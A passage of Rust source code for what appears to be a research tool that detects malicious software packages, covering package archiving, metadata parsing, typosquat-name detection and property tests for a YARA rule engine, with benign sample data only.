            out.push_str("# ==== file: ");
            out.push_str(&f.path);
            out.push('\n');
            out.push_str(&f.contents);
            if !f.contents.ends_with('\n') {
                out.push('\n');
            }
        }
        out
    }

    /// Content signature used for deduplication (§V-A reduces 3,200
    /// packages to 1,633 unique ones by signature).
    ///
    /// Only code content participates: GuardDog duplicates differ in
    /// name/version but share their payload.
    pub fn signature(&self) -> String {
        digest::sha256_hex(self.combined_source().as_bytes())
    }

    /// Packs the package into a distribution [`Archive`].
    pub fn pack(&self) -> Archive {
        let mut archive = Archive::new(&self.metadata.name, &self.metadata.version);
        archive.add_entry(
            "PKG-INFO",
            crate::metadata::render_pkg_info(&self.metadata).as_bytes(),
        );
        archive.add_entry(
            "metadata.json",
            crate::metadata::render_registry_json(&self.metadata).as_bytes(),
        );
        for f in &self.files {
            archive.add_entry(&f.path, f.contents.as_bytes());
        }
        archive
    }

    /// Unpacks a distribution archive back into a package (the paper's
    /// "Unpacking" step, §III-B).
    ///
    /// # Errors
    ///
    /// Returns [`ArchiveError`] on a corrupt archive or missing metadata.
    pub fn unpack(archive: &Archive) -> Result<Package, ArchiveError> {
        let mut metadata = None;
        let mut files = Vec::new();
        for (path, data) in archive.entries() {
            match path {
                "PKG-INFO" => {
                    let text = String::from_utf8_lossy(data);
                    metadata = Some(crate::metadata::parse_pkg_info(&text));
                }
                "metadata.json" => {
                    if metadata.is_none() {
                        let text = String::from_utf8_lossy(data);
                        metadata = crate::metadata::parse_registry_json(&text).ok();
                    }
                }
                _ => files.push(SourceFile::new(
                    path,
                    String::from_utf8_lossy(data).into_owned(),
                )),
            }
        }
        let metadata = metadata.ok_or(ArchiveError::MissingMetadata)?;
        let ecosystem = if files.iter().any(|f| f.path.ends_with(".js")) {
            Ecosystem::Npm
        } else {
            Ecosystem::PyPi
        };
        Ok(Package {
            metadata,
            files,
            ecosystem,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> Package {
        Package::new(
            PackageMetadata {
                name: "colorstext".into(),
                version: "0.0.0".into(),
                summary: "terminal colors".into(),
                description: String::new(),
                home_page: String::new(),
                author: "anon".into(),
                author_email: "a@b.c".into(),
                license: "MIT".into(),
                dependencies: vec!["requests".into()],
            },
            vec![
                SourceFile::new("setup.py", "from setuptools import setup\nsetup()\n"),
                SourceFile::new("colorstext/__init__.py", "import os\n"),
            ],
            Ecosystem::PyPi,
        )
    }

    #[test]
    fn loc_sums_files() {
        assert_eq!(sample().loc(), 3);
    }

    #[test]
    fn setup_file_found() {
        assert_eq!(
            sample().setup_file().map(|f| f.path.as_str()),
            Some("setup.py")
        );
    }

    #[test]
    fn signature_stable_and_content_sensitive() {
        let a = sample();
        let mut b = sample();
        assert_eq!(a.signature(), b.signature());
        b.files[1].contents.push_str("x = 1\n");
        assert_ne!(a.signature(), b.signature());
    }

    #[test]
    fn signature_ignores_metadata() {
        let a = sample();
        let mut b = sample();
        b.metadata.name = "colorstext2".into();
        assert_eq!(a.signature(), b.signature());
    }

    #[test]
    fn pack_unpack_roundtrip() {
        let pkg = sample();
        let back = Package::unpack(&pkg.pack()).expect("unpack");
        assert_eq!(back.metadata().name, "colorstext");
        assert_eq!(back.files().len(), 2);
        assert_eq!(back.ecosystem(), Ecosystem::PyPi);
        assert_eq!(back.metadata().dependencies, vec!["requests".to_owned()]);
    }

    #[test]
    fn combined_source_includes_all_files() {
        let s = sample().combined_source();
        assert!(s.contains("setup.py"));
        assert!(s.contains("colorstext/__init__.py"));
        assert!(s.contains("import os"));
    }

    #[test]
    fn ecosystem_extension() {
        assert_eq!(Ecosystem::PyPi.extension(), "py");
        assert_eq!(Ecosystem::Npm.extension(), "js");
    }
}

//! In-memory distribution archive.
//!
//! A minimal sdist-like container: a magic header, package name/version,
//! and length-prefixed entries. It exists so the pipeline exercises a real
//! pack → unpack step (§III-B "Unpacking") with real corruption failure
//! modes, without shelling out to tar/gzip.

use std::error::Error;
use std::fmt;

const MAGIC: &[u8; 8] = b"OSSPKG01";

/// Errors produced when reading an [`Archive`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ArchiveError {
    /// The byte stream does not start with the archive magic.
    BadMagic,
    /// An entry header or payload is truncated.
    Truncated,
    /// A length field exceeds the remaining input.
    CorruptLength,
    /// No `PKG-INFO`/`metadata.json` entry was present.
    MissingMetadata,
}

impl fmt::Display for ArchiveError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ArchiveError::BadMagic => write!(f, "not a package archive (bad magic)"),
            ArchiveError::Truncated => write!(f, "archive is truncated"),
            ArchiveError::CorruptLength => write!(f, "archive entry length is corrupt"),
            ArchiveError::MissingMetadata => write!(f, "archive has no package metadata"),
        }
    }
}

impl Error for ArchiveError {}

/// An in-memory package archive.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Archive {
    name: String,
    version: String,
    entries: Vec<(String, Vec<u8>)>,
}

impl Archive {
    /// Creates an empty archive for the named package.
    pub fn new(name: &str, version: &str) -> Self {
        Archive {
            name: name.to_owned(),
            version: version.to_owned(),
            entries: Vec::new(),
        }
    }

    /// Package name recorded in the header.
    pub fn name(&self) -> &str {
        &self.name
    }

    /// Package version recorded in the header.
    pub fn version(&self) -> &str {
        &self.version
    }

    /// Adds one entry; later entries with the same path shadow earlier
    /// ones on read.
    pub fn add_entry(&mut self, path: &str, data: &[u8]) {
        self.entries.push((path.to_owned(), data.to_vec()));
    }

    /// Iterates entries as `(path, bytes)`.
    pub fn entries(&self) -> impl Iterator<Item = (&str, &[u8])> {
        self.entries.iter().map(|(p, d)| (p.as_str(), d.as_slice()))
    }

    /// Number of entries.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// Returns true when the archive holds no entries.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Serializes the archive to bytes.
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut out = Vec::new();
        out.extend_from_slice(MAGIC);
        write_str(&mut out, &self.name);
        write_str(&mut out, &self.version);
        out.extend_from_slice(&(self.entries.len() as u32).to_le_bytes());
        for (path, data) in &self.entries {
            write_str(&mut out, path);
            out.extend_from_slice(&(data.len() as u32).to_le_bytes());
            out.extend_from_slice(data);
        }
        out
    }

    /// Deserializes an archive from bytes.
    ///
    /// # Errors
    ///
    /// Returns [`ArchiveError`] on bad magic, truncation or corrupt
    /// lengths.
    pub fn from_bytes(bytes: &[u8]) -> Result<Self, ArchiveError> {
        if bytes.len() < MAGIC.len() || &bytes[..MAGIC.len()] != MAGIC {
            return Err(ArchiveError::BadMagic);
        }
        let mut pos = MAGIC.len();
        let name = read_str(bytes, &mut pos)?;
        let version = read_str(bytes, &mut pos)?;
        let count = read_u32(bytes, &mut pos)? as usize;
        if count > 1_000_000 {
            return Err(ArchiveError::CorruptLength);
        }
        let mut entries = Vec::with_capacity(count);
        for _ in 0..count {
            let path = read_str(bytes, &mut pos)?;
            let len = read_u32(bytes, &mut pos)? as usize;
            if pos + len > bytes.len() {
                return Err(ArchiveError::CorruptLength);
            }
            entries.push((path, bytes[pos..pos + len].to_vec()));
            pos += len;
        }
        Ok(Archive {
            name,
            version,
            entries,
        })
    }
}

fn write_str(out: &mut Vec<u8>, s: &str) {
    out.extend_from_slice(&(s.len() as u32).to_le_bytes());
    out.extend_from_slice(s.as_bytes());
}

fn read_u32(bytes: &[u8], pos: &mut usize) -> Result<u32, ArchiveError> {
    if *pos + 4 > bytes.len() {
        return Err(ArchiveError::Truncated);
    }
    let v = u32::from_le_bytes(bytes[*pos..*pos + 4].try_into().expect("4 bytes"));
    *pos += 4;
    Ok(v)
}

fn read_str(bytes: &[u8], pos: &mut usize) -> Result<String, ArchiveError> {
    let len = read_u32(bytes, pos)? as usize;
    if *pos + len > bytes.len() {
        return Err(ArchiveError::CorruptLength);
    }
    let s = String::from_utf8_lossy(&bytes[*pos..*pos + len]).into_owned();
    *pos += len;
    Ok(s)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roundtrip() {
        let mut a = Archive::new("pkg", "1.0");
        a.add_entry("setup.py", b"setup()");
        a.add_entry("pkg/__init__.py", b"");
        let bytes = a.to_bytes();
        let b = Archive::from_bytes(&bytes).expect("decode");
        assert_eq!(a, b);
        assert_eq!(b.len(), 2);
    }

    #[test]
    fn bad_magic_rejected() {
        assert_eq!(
            Archive::from_bytes(b"NOTMAGIC...."),
            Err(ArchiveError::BadMagic)
        );
    }

    #[test]
    fn truncated_rejected() {
        let mut a = Archive::new("pkg", "1.0");
        a.add_entry("setup.py", b"setup()");
        let bytes = a.to_bytes();
        let cut = &bytes[..bytes.len() - 3];
        assert!(matches!(
            Archive::from_bytes(cut),
            Err(ArchiveError::Truncated) | Err(ArchiveError::CorruptLength)
        ));
    }

    #[test]
    fn corrupt_count_rejected() {
        let mut a = Archive::new("p", "1");
        a.add_entry("x", b"y");
        let mut bytes = a.to_bytes();
        // Entry count lives right after the two header strings.
        let count_pos = 8 + 4 + 1 + 4 + 1;
        bytes[count_pos..count_pos + 4].copy_from_slice(&u32::MAX.to_le_bytes());
        assert!(Archive::from_bytes(&bytes).is_err());
    }

    #[test]
    fn binary_payload_preserved() {
        let mut a = Archive::new("pkg", "1.0");
        let payload: Vec<u8> = (0..=255u8).collect();
        a.add_entry("blob.bin", &payload);
        let b = Archive::from_bytes(&a.to_bytes()).expect("decode");
        let (_, data) = b.entries().next().expect("entry");
        assert_eq!(data, payload.as_slice());
    }

    #[test]
    fn empty_archive_roundtrip() {
        let a = Archive::new("empty", "0.1");
        let b = Archive::from_bytes(&a.to_bytes()).expect("decode");
        assert!(b.is_empty());
        assert_eq!(b.name(), "empty");
        assert_eq!(b.version(), "0.1");
    }
}

//! The three metadata-extraction paths of Fig. 1: `pkg-info`, `setup`
//! file, and registry-API JSON (`egg-info`).

use jsonmini::Value;

use crate::package::{Package, PackageMetadata};

/// Which extraction path produced the metadata.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum MetadataSource {
    /// Parsed from a `PKG-INFO` file.
    PkgInfo,
    /// Parsed from the `setup.py` `setup(...)` call.
    SetupFile,
    /// Parsed from the registry JSON API response.
    RegistryJson,
}

/// Renders metadata in `PKG-INFO` key/value format.
pub fn render_pkg_info(meta: &PackageMetadata) -> String {
    let mut out = String::new();
    out.push_str("Metadata-Version: 2.1\n");
    out.push_str(&format!("Name: {}\n", meta.name));
    out.push_str(&format!("Version: {}\n", meta.version));
    out.push_str(&format!("Summary: {}\n", meta.summary));
    out.push_str(&format!("Home-page: {}\n", meta.home_page));
    out.push_str(&format!("Author: {}\n", meta.author));
    out.push_str(&format!("Author-email: {}\n", meta.author_email));
    out.push_str(&format!("License: {}\n", meta.license));
    for dep in &meta.dependencies {
        out.push_str(&format!("Requires-Dist: {dep}\n"));
    }
    out.push_str(&format!("Description: {}\n", meta.description));
    out
}

/// Parses `PKG-INFO` text (unknown keys ignored, missing keys empty).
pub fn parse_pkg_info(text: &str) -> PackageMetadata {
    let mut meta = PackageMetadata::default();
    for line in text.lines() {
        let Some((key, value)) = line.split_once(':') else {
            continue;
        };
        let value = value.trim();
        match key.trim() {
            "Name" => meta.name = value.to_owned(),
            "Version" => meta.version = value.to_owned(),
            "Summary" => meta.summary = value.to_owned(),
            "Home-page" => meta.home_page = value.to_owned(),
            "Author" => meta.author = value.to_owned(),
            "Author-email" => meta.author_email = value.to_owned(),
            "License" => meta.license = value.to_owned(),
            "Requires-Dist" => meta.dependencies.push(value.to_owned()),
            "Description" => meta.description = value.to_owned(),
            _ => {}
        }
    }
    meta
}

/// Renders the registry JSON API response for a package
/// (`https://registry.../{name}` style, Fig. 1).
pub fn render_registry_json(meta: &PackageMetadata) -> String {
    let mut info = Value::object();
    info.insert("name", meta.name.as_str());
    info.insert("version", meta.version.as_str());
    info.insert("summary", meta.summary.as_str());
    info.insert("description", meta.description.as_str());
    info.insert("home_page", meta.home_page.as_str());
    info.insert("author", meta.author.as_str());
    info.insert("author_email", meta.author_email.as_str());
    info.insert("license", meta.license.as_str());
    info.insert(
        "requires_dist",
        Value::Array(
            meta.dependencies
                .iter()
                .map(|d| Value::from(d.as_str()))
                .collect(),
        ),
    );
    let mut doc = Value::object();
    doc.insert("info", info);
    doc.to_string()
}

/// Parses a registry JSON API response.
///
/// # Errors
///
/// Returns the parser's error message when the JSON is malformed, or a
/// schema message when the `info` object or its required `name` /
/// `version` fields are missing. Optional fields default to empty, like
/// the registry API's nullable members.
pub fn parse_registry_json(text: &str) -> Result<PackageMetadata, String> {
    let value = jsonmini::parse(text)?;
    let info = value
        .get("info")
        .ok_or_else(|| "missing `info` object".to_owned())?;
    let required = |key: &str| -> Result<String, String> {
        info.get(key)
            .and_then(Value::as_str)
            .map(str::to_owned)
            .ok_or_else(|| format!("missing `info.{key}` field"))
    };
    let optional = |key: &str| -> String {
        info.get(key)
            .and_then(Value::as_str)
            .unwrap_or_default()
            .to_owned()
    };
    Ok(PackageMetadata {
        name: required("name")?,
        version: required("version")?,
        summary: optional("summary"),
        description: optional("description"),
        home_page: optional("home_page"),
        author: optional("author"),
        author_email: optional("author_email"),
        license: optional("license"),
        dependencies: info
            .get("requires_dist")
            .and_then(Value::as_array)
            .map(|items| {
                items
                    .iter()
                    .filter_map(Value::as_str)
                    .map(str::to_owned)
                    .collect()
            })
            .unwrap_or_default(),
    })
}

/// Renders a plausible `setup.py` for the metadata (used by the corpus
/// generator).
pub fn render_setup_py(meta: &PackageMetadata, extra_body: &str) -> String {
    let deps = meta
        .dependencies
        .iter()
        .map(|d| format!("'{d}'"))
        .collect::<Vec<_>>()
        .join(", ");
    format!(
        "from setuptools import setup, find_packages\n{extra}\nsetup(\n    name='{name}',\n    version='{version}',\n    description='{summary}',\n    author='{author}',\n    author_email='{email}',\n    url='{url}',\n    license='{license}',\n    install_requires=[{deps}],\n    packages=find_packages(),\n)\n",
        extra = extra_body,
        name = meta.name,
        version = meta.version,
        summary = meta.summary,
        author = meta.author,
        email = meta.author_email,
        url = meta.home_page,
        license = meta.license,
        deps = deps,
    )
}

/// Extracts metadata from a `setup.py` source by locating the `setup(...)`
/// call and reading its keyword arguments.
pub fn parse_setup_py(source: &str) -> Option<PackageMetadata> {
    let module = pysrc_parse(source);
    let calls = collect_calls(&module);
    for call in calls {
        if let pysrc::Expr::Call { func, args } = call {
            if func.func_path() != "setup" {
                continue;
            }
            let mut meta = PackageMetadata::default();
            for arg in args {
                let Some(name) = arg.name.as_deref() else {
                    continue;
                };
                let value = match &arg.value {
                    pysrc::Expr::Str(s) => s.clone(),
                    other => other.to_text(),
                };
                match name {
                    "name" => meta.name = value,
                    "version" => meta.version = value,
                    "description" => meta.summary = value,
                    "long_description" => meta.description = value,
                    "author" => meta.author = value,
                    "author_email" => meta.author_email = value,
                    "url" => meta.home_page = value,
                    "license" => meta.license = value,
                    "install_requires" => {
                        // Rendered list text: ['a', 'b']
                        meta.dependencies = value
                            .trim_start_matches('[')
                            .trim_end_matches(']')
                            .split(',')
                            .map(|s| s.trim().trim_matches('\'').trim_matches('"').to_owned())
                            .filter(|s| !s.is_empty())
                            .collect();
                    }
                    _ => {}
                }
            }
            if !meta.name.is_empty() {
                return Some(meta);
            }
        }
    }
    None
}

fn pysrc_parse(source: &str) -> pysrc::Module {
    pysrc::parse_module(source)
}

fn collect_calls(module: &pysrc::Module) -> Vec<&pysrc::Expr> {
    pysrc::collect_calls(module)
}

/// Extracts metadata from a package, trying all three paths of Fig. 1:
/// `PKG-INFO` in the archive, the `setup` file, then the registry JSON.
pub fn extract_metadata(pkg: &Package) -> (PackageMetadata, MetadataSource) {
    if let Some(setup) = pkg.setup_file() {
        if let Some(meta) = parse_setup_py(&setup.contents) {
            return (meta, MetadataSource::SetupFile);
        }
    }
    if let Some(info) = pkg.file("PKG-INFO") {
        let meta = parse_pkg_info(&info.contents);
        if !meta.name.is_empty() {
            return (meta, MetadataSource::PkgInfo);
        }
    }
    // Fall back to the package's own (registry) metadata serialized as the
    // API response — the `egg-info` path.
    let json = render_registry_json(pkg.metadata());
    let meta = parse_registry_json(&json).expect("self-rendered JSON is valid");
    (meta, MetadataSource::RegistryJson)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::package::{Ecosystem, SourceFile};

    fn meta() -> PackageMetadata {
        PackageMetadata {
            name: "colorstext".into(),
            version: "0.0.0".into(),
            summary: "colors".into(),
            description: "long text".into(),
            home_page: "https://example.org".into(),
            author: "anon".into(),
            author_email: "a@b.c".into(),
            license: "MIT".into(),
            dependencies: vec!["requests".into(), "rich".into()],
        }
    }

    #[test]
    fn pkg_info_roundtrip() {
        let rendered = render_pkg_info(&meta());
        let parsed = parse_pkg_info(&rendered);
        assert_eq!(parsed, meta());
    }

    #[test]
    fn registry_json_roundtrip() {
        let rendered = render_registry_json(&meta());
        let parsed = parse_registry_json(&rendered).expect("parse");
        assert_eq!(parsed, meta());
    }

    #[test]
    fn registry_json_rejects_garbage() {
        assert!(parse_registry_json("not json").is_err());
        assert!(parse_registry_json("{}").is_err());
    }

    #[test]
    fn setup_py_roundtrip() {
        let rendered = render_setup_py(&meta(), "");
        let parsed = parse_setup_py(&rendered).expect("parse");
        assert_eq!(parsed.name, "colorstext");
        assert_eq!(parsed.version, "0.0.0");
        assert_eq!(
            parsed.dependencies,
            vec!["requests".to_owned(), "rich".to_owned()]
        );
    }

    #[test]
    fn setup_py_without_setup_call() {
        assert!(parse_setup_py("print('no setup here')\n").is_none());
    }

    #[test]
    fn extract_prefers_setup_file() {
        let pkg = Package::new(
            meta(),
            vec![SourceFile::new("setup.py", render_setup_py(&meta(), ""))],
            Ecosystem::PyPi,
        );
        let (m, source) = extract_metadata(&pkg);
        assert_eq!(source, MetadataSource::SetupFile);
        assert_eq!(m.name, "colorstext");
    }

    #[test]
    fn extract_falls_back_to_registry_json() {
        let pkg = Package::new(
            meta(),
            vec![SourceFile::new("pkg/__init__.py", "x = 1\n")],
            Ecosystem::PyPi,
        );
        let (m, source) = extract_metadata(&pkg);
        assert_eq!(source, MetadataSource::RegistryJson);
        assert_eq!(m, meta());
    }

    #[test]
    fn extract_uses_pkg_info_entry() {
        let pkg = Package::new(
            PackageMetadata::default(),
            vec![SourceFile::new("PKG-INFO", render_pkg_info(&meta()))],
            Ecosystem::PyPi,
        );
        let (m, source) = extract_metadata(&pkg);
        assert_eq!(source, MetadataSource::PkgInfo);
        assert_eq!(m.name, "colorstext");
    }
}

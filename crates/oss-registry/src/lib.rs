//! `oss-registry` — package-model substrate.
//!
//! Models what the paper consumes from PyPI/NPM: a software package with
//! metadata and source files, distributed as an archive. Implements the
//! three metadata-extraction paths of Fig. 1 (`pkg-info`, `setup` file,
//! `egg-info`/registry-API JSON) plus the unpacking step of §III-B.
//!
//! # Examples
//!
//! ```
//! use oss_registry::{Package, PackageMetadata, SourceFile, Ecosystem};
//!
//! let pkg = Package::new(
//!     PackageMetadata::new("reqests", "0.0.0"),
//!     vec![SourceFile::new("setup.py", "from setuptools import setup\nsetup(name='reqests')\n")],
//!     Ecosystem::PyPi,
//! );
//! assert_eq!(pkg.loc(), 2);
//! let archive = pkg.pack();
//! let back = Package::unpack(&archive)?;
//! assert_eq!(back.metadata().name, "reqests");
//! # Ok::<(), oss_registry::ArchiveError>(())
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod archive;
mod metadata;
mod names;
mod package;

pub use archive::{Archive, ArchiveError};
pub use metadata::{
    extract_metadata, parse_pkg_info, parse_registry_json, parse_setup_py, render_pkg_info,
    render_registry_json, render_setup_py, MetadataSource,
};
pub use names::{edit_distance, is_typosquat, POPULAR_PACKAGES};
pub use package::{Ecosystem, Package, PackageMetadata, SourceFile};

//! Package-name analysis: popular-package list and typosquatting
//! detection (a Table II metadata audit signal).

/// The most-downloaded PyPI package names (a static snapshot standing in
/// for the top-packages feed the paper uses for its legitimate corpus).
pub const POPULAR_PACKAGES: &[&str] = &[
    "requests",
    "urllib3",
    "numpy",
    "pandas",
    "boto3",
    "setuptools",
    "botocore",
    "idna",
    "certifi",
    "charset-normalizer",
    "python-dateutil",
    "typing-extensions",
    "six",
    "pyyaml",
    "cryptography",
    "packaging",
    "pip",
    "wheel",
    "click",
    "rich",
    "colorama",
    "attrs",
    "jinja2",
    "markupsafe",
    "flask",
    "django",
    "pytest",
    "scipy",
    "matplotlib",
    "pillow",
    "sqlalchemy",
    "pydantic",
    "aiohttp",
    "tqdm",
    "beautifulsoup4",
    "lxml",
    "websockets",
    "redis",
    "celery",
    "pytz",
    "httpx",
    "fastapi",
    "uvicorn",
    "paramiko",
    "psycopg2",
    "pymongo",
    "selenium",
    "scikit-learn",
    "tensorflow",
    "torch",
];

/// Damerau-free Levenshtein edit distance between two names.
pub fn edit_distance(a: &str, b: &str) -> usize {
    let a: Vec<char> = a.chars().collect();
    let b: Vec<char> = b.chars().collect();
    if a.is_empty() {
        return b.len();
    }
    if b.is_empty() {
        return a.len();
    }
    let mut prev: Vec<usize> = (0..=b.len()).collect();
    let mut cur = vec![0usize; b.len() + 1];
    for (i, ca) in a.iter().enumerate() {
        cur[0] = i + 1;
        for (j, cb) in b.iter().enumerate() {
            let cost = usize::from(ca != cb);
            cur[j + 1] = (prev[j + 1] + 1).min(cur[j] + 1).min(prev[j] + cost);
        }
        std::mem::swap(&mut prev, &mut cur);
    }
    prev[b.len()]
}

/// Returns the popular package `name` squats on, if any.
///
/// A name typosquats when it is within edit distance 1–2 of a popular
/// package (distance 0 means it *is* the popular package) or differs only
/// by a separator (`python-requests` vs `requests`).
pub fn is_typosquat(name: &str) -> Option<&'static str> {
    let lowered = name.to_ascii_lowercase();
    for popular in POPULAR_PACKAGES {
        if lowered == *popular {
            return None;
        }
    }
    for popular in POPULAR_PACKAGES {
        let d = edit_distance(&lowered, popular);
        // Distance thresholds scale with name length: very short names
        // produce too many accidental near-misses.
        if (d == 1 && popular.len() >= 4) || (d == 2 && popular.len() >= 6) {
            return Some(popular);
        }
        // Prefix/suffix decoration: `requests-py`, `python-requests`.
        if lowered.len() > popular.len() + 2
            && (lowered.starts_with(&format!("{popular}-"))
                || lowered.ends_with(&format!("-{popular}"))
                || lowered.starts_with(&format!("python-{popular}"))
                || lowered.ends_with(&format!("{popular}-python")))
        {
            return Some(popular);
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn edit_distance_basics() {
        assert_eq!(edit_distance("", ""), 0);
        assert_eq!(edit_distance("abc", ""), 3);
        assert_eq!(edit_distance("abc", "abc"), 0);
        assert_eq!(edit_distance("kitten", "sitting"), 3);
    }

    #[test]
    fn reqests_squats_requests() {
        assert_eq!(is_typosquat("reqests"), Some("requests"));
    }

    #[test]
    fn numpyy_squats_numpy() {
        assert_eq!(is_typosquat("numpyy"), Some("numpy"));
    }

    #[test]
    fn decorated_name_squats() {
        assert_eq!(is_typosquat("requests-py3"), Some("requests"));
    }

    #[test]
    fn popular_name_itself_is_not_squat() {
        assert_eq!(is_typosquat("requests"), None);
        assert_eq!(is_typosquat("numpy"), None);
    }

    #[test]
    fn unrelated_name_is_not_squat() {
        assert_eq!(is_typosquat("frobnicator-deluxe"), None);
    }

    #[test]
    fn case_insensitive() {
        assert_eq!(is_typosquat("Reqests"), Some("requests"));
    }

    #[test]
    fn short_names_excluded() {
        // Edit distance on very short names is too noisy (pip vs pipx).
        assert_eq!(is_typosquat("pyp"), None);
    }
}

//! Property-based tests: the compile → scan path must behave like a
//! substring oracle for simple rules, for arbitrary inputs.

use proptest::prelude::*;

fn yara_escape(text: &str) -> String {
    text.replace('\\', "\\\\")
        .replace('"', "\\\"")
        .replace('\n', "\\n")
        .replace('\t', "\\t")
        .replace('\r', "\\r")
}

proptest! {
    #[test]
    fn literal_rule_matches_iff_substring_present(
        needle in "[ -~]{3,24}",
        pre in "[a-z\\n ]{0,40}",
        post in "[a-z\\n ]{0,40}",
    ) {
        let rule = format!(
            "rule t {{ strings: $a = \"{}\" condition: $a }}",
            yara_escape(&needle)
        );
        let compiled = yara_engine::compile(&rule)
            .unwrap_or_else(|e| panic!("escaped rule must compile: {e}\n{rule}"));
        let scanner = yara_engine::Scanner::new(&compiled);
        let hay = format!("{pre}{needle}{post}");
        prop_assert!(scanner.is_match(hay.as_bytes()));
        // A haystack provably without the needle must not match.
        let clean = "0".repeat(pre.len() + post.len());
        prop_assert_eq!(scanner.is_match(clean.as_bytes()), clean.contains(&needle));
    }

    #[test]
    fn count_conditions_agree_with_occurrences(n in 1usize..6, extra in 0usize..4) {
        let hay = "needle ".repeat(n + extra);
        let rule = format!(
            "rule t {{ strings: $a = \"needle\" condition: #a >= {n} }}"
        );
        let compiled = yara_engine::compile(&rule).expect("compile");
        let scanner = yara_engine::Scanner::new(&compiled);
        prop_assert!(scanner.is_match(hay.as_bytes()));
        let short = "needle ".repeat(n.saturating_sub(1));
        prop_assert_eq!(scanner.is_match(short.as_bytes()), n.saturating_sub(1) >= n);
    }

    #[test]
    fn parser_never_panics_on_garbage(src in "[ -~\\n]{0,200}") {
        let _ = yara_engine::compile(&src);
    }

    #[test]
    fn all_of_them_is_intersection(
        a in "[a-m]{4,10}",
        b in "[n-z]{4,10}",
        include_a in any::<bool>(),
        include_b in any::<bool>(),
    ) {
        let rule = format!(
            "rule t {{ strings: $a = \"{a}\" $b = \"{b}\" condition: all of them }}"
        );
        let compiled = yara_engine::compile(&rule).expect("compile");
        let scanner = yara_engine::Scanner::new(&compiled);
        let mut hay = String::from("prefix ");
        if include_a { hay.push_str(&a); }
        hay.push(' ');
        if include_b { hay.push_str(&b); }
        prop_assert_eq!(scanner.is_match(hay.as_bytes()), include_a && include_b);
    }

    #[test]
    fn any_of_them_is_union(
        a in "[a-m]{4,10}",
        b in "[n-z]{4,10}",
        include_a in any::<bool>(),
        include_b in any::<bool>(),
    ) {
        let rule = format!(
            "rule t {{ strings: $a = \"{a}\" $b = \"{b}\" condition: any of them }}"
        );
        let compiled = yara_engine::compile(&rule).expect("compile");
        let scanner = yara_engine::Scanner::new(&compiled);
        let mut hay = String::from("prefix ");
        if include_a { hay.push_str(&a); }
        hay.push(' ');
        if include_b { hay.push_str(&b); }
        prop_assert_eq!(scanner.is_match(hay.as_bytes()), include_a || include_b);
    }

    #[test]
    fn nocase_matches_any_casing(word in "[a-z]{4,12}", flip in any::<u8>()) {
        let rule = format!(
            "rule t {{ strings: $a = \"{word}\" nocase condition: $a }}"
        );
        let compiled = yara_engine::compile(&rule).expect("compile");
        let scanner = yara_engine::Scanner::new(&compiled);
        let mutated: String = word
            .chars()
            .enumerate()
            .map(|(i, c)| if (flip >> (i % 8)) & 1 == 1 { c.to_ascii_uppercase() } else { c })
            .collect();
        prop_assert!(scanner.is_match(mutated.as_bytes()));
    }

    #[test]
    fn match_offsets_are_exact(pre_len in 0usize..40) {
        let pre = "x".repeat(pre_len);
        let hay = format!("{pre}needle tail");
        let compiled = yara_engine::compile(
            "rule t { strings: $a = \"needle\" condition: $a }",
        )
        .expect("compile");
        let scanner = yara_engine::Scanner::new(&compiled);
        let hits = scanner.scan(hay.as_bytes());
        prop_assert_eq!(hits.len(), 1);
        prop_assert_eq!(&hits[0].strings[0].offsets, &vec![pre_len]);
    }
}

//! Per-rule literal-atom extraction for scan prefiltering.
//!
//! A registry-scale scan service wants to route a package to the few
//! rules whose strings can actually occur in it, instead of evaluating
//! every rule's condition against every package. This module computes,
//! for one compiled rule, the set of plain-text **atoms** and whether
//! that set is **exhaustive**: when it is, *no atom occurring in a buffer
//! (case-insensitively) implies the rule cannot match that buffer*, so a
//! prefilter may skip the rule without changing scan results.
//!
//! Soundness is established by a three-valued evaluation of the rule's
//! condition under the assumption "every atom-backed string has zero
//! matches". String definitions a literal prefilter cannot reason about
//! — regex strings, and `wide` strings whose UTF-16LE expansion does not
//! contain the ASCII atom bytes — evaluate to *unknown*, as do
//! `filesize` comparisons. Only a condition that is provably false under
//! that assumption makes the rule skippable.

use crate::ast::{Condition, StringSet, StringValue};
use crate::compiler::CompiledRule;

/// The prefilter contract for one rule.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RuleAtoms {
    /// Plain-text atoms: the literal bytes of every `ascii` (non-`wide`)
    /// text string in the rule. Intended for case-insensitive matching,
    /// which over-approximates both case-sensitive and `nocase` strings.
    pub atoms: Vec<String>,
    /// When true, a buffer containing none of `atoms` (matched
    /// case-insensitively) cannot match the rule. When false the rule
    /// must always be evaluated.
    pub exhaustive: bool,
}

/// Three-valued condition outcome under the zero-atom-match assumption.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Tri {
    False,
    True,
    Unknown,
}

impl Tri {
    fn not(self) -> Tri {
        match self {
            Tri::False => Tri::True,
            Tri::True => Tri::False,
            Tri::Unknown => Tri::Unknown,
        }
    }

    fn from_bool(b: bool) -> Tri {
        if b {
            Tri::True
        } else {
            Tri::False
        }
    }
}

/// Extracts the literal atoms and prefilter contract of `rule`.
pub fn literal_atoms(rule: &CompiledRule) -> RuleAtoms {
    let atoms: Vec<String> = rule
        .rule
        .strings
        .iter()
        .filter_map(|s| match &s.value {
            StringValue::Text { text, mods } if mods.ascii && !mods.wide => Some(text.clone()),
            _ => None,
        })
        .collect();
    let zero = eval_zero(rule, &rule.rule.condition);
    RuleAtoms {
        exhaustive: zero == Tri::False,
        atoms,
    }
}

/// Whether string `id` is backed by an atom (so "no atom occurred"
/// implies it has zero matches).
fn atom_backed(rule: &CompiledRule, id: &str) -> bool {
    rule.rule.strings.iter().any(|s| {
        s.id == id && matches!(&s.value, StringValue::Text { mods, .. } if mods.ascii && !mods.wide)
    })
}

fn covered_ids<'r>(rule: &'r CompiledRule, set: &StringSet) -> Vec<&'r str> {
    match set {
